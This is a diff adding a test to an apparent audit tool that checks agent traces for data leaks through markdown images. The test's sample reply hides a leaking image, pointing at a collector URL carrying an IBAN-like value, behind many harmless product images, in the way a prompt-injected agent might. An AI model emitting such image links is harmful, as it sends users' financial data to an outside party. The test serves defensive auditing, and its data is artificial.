@@ -127,3 +127,15 @@ def test_a_hostile_reply_is_read_quickly_and_its_images_are_capped(jsonl):
     start = time.perf_counter()
     assert dataflow(jsonl(account_then("![" * 10_000))) == []
     assert time.perf_counter() - start < 5
+
+
+def test_images_past_those_read_are_reported_unchecked(jsonl):
+    """A poisoned trace could put its leaking image after more harmless ones than are
+    read: the guard takes those out unread, the audit reports them."""
+    harmless = " ".join(f"![p](https://cdn.shopfront.com/p/{i}.jpg)" for i in range(MAX_IMAGES))
+    reply = f"{harmless} ![s]({COLLECTOR}/v2/i?d=DE89370400440532013000) ![t]({PHOTO})"
+    (unread,) = [f for f in dataflow(jsonl(account_then(reply))) if "unread_images" in f.evidence]
+    assert unread.severity == "low" and unread.evidence["unread_images"] == 2
+    assert unread.step == 4 and unread.evidence["sink"]["tool"] == REPLY_IMAGE
+    fine = " ".join([f"![lamp]({PHOTO})"] * (MAX_IMAGES + 8))  # one URL: read
+    assert not [f for f in dataflow(jsonl(account_then(fine))) if "unread_images" in f.evidence]
